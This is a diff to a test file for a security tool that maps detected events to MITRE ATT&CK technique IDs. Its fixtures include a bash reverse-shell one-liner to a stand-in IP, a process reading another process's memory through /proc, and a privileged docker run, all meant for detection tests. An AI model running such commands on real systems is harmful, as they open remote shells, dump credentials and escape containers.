@@ -144,12 +144,31 @@ test.each<[string, string[]]>([
   );
 });
 
+const MEMORY_READ = {
+  exe: '/usr/bin/python3',
+  armour_event_process: { file_info: { target_file: '/proc/1798/mem', target_pid: 1798 } },
+};
+
 describe('ATT&CK by payload', () => {
   const shell = { exe: '/bin/bash', arguments: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] };
   test.each<[string, JsonObject, string[]]>([
     ['Reverse-Shell', { process_events: [shell] }, ['TA0002', 'TA0011', 'T1059.004', 'T1095']],
     ['Secret-In-Build-Log', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
     ['Secret-In-Artifact', { rule_id: 'private-key' }, ['TA0006', 'T1552.004']],
+    ['Suspicious-Process-Call', { process_events: [{ exe: '/usr/bin/make', arguments: ['make'] }] }, []],
+    ['Suspicious-Process-Events', { process_events: [MEMORY_READ] }, ['TA0006', 'T1003.007']],
+    [
+      'Suspicious-Process-Events',
+      {
+        process_events: [{ exe: '/usr/bin/docker', arguments: ['docker', 'run', '--privileged', 'alpine'] }],
+      },
+      ['TA0004', 'T1611'],
+    ],
+    [
+      'Suspicious-Process-Events',
+      { process_events: [{ exe: '/usr/bin/docker', arguments: ['docker', 'run', 'alpine'] }] },
+      [],
+    ],
   ])('%s with %j', (kind, fields, ids) => {
     expect(attack(readShipped(payloadOf(kind, fields)))).toEqual(ids);
   });
